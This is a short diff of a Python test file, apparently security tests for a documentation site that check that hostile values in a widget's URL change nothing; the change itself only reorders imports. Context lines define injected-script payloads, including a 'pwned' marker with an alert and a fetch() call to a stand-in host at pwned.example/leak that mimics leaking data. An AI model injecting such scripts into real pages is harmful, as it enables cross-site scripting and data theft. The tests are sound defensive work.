@@ -22,19 +22,15 @@ are untrusted too: hostile values in the nudge widget's URL change nothing.
 
 from __future__ import annotations
 
-import sys
 from pathlib import Path
 from urllib.parse import urlparse
 
 import pytest
 
-from checks.conftest import ROOT
 from checks.serve import served
-
-sys.path.insert(0, str(ROOT))
-
-from docs._hooks.build import build_site  # noqa: E402
-from speckit.authoring import run_scratch, scratch_specification, write_scratch_file  # noqa: E402
+from docs._hooks.build import build_site
+from speckit.authoring import run_scratch, scratch_specification, write_scratch_file
+from speckit.features import ROOT
 
 RUN = "window.pwned = true; document.documentElement.setAttribute('data-pwned', '1'); alert('pwned')"
 FETCH = "fetch('https://pwned.example/leak')"
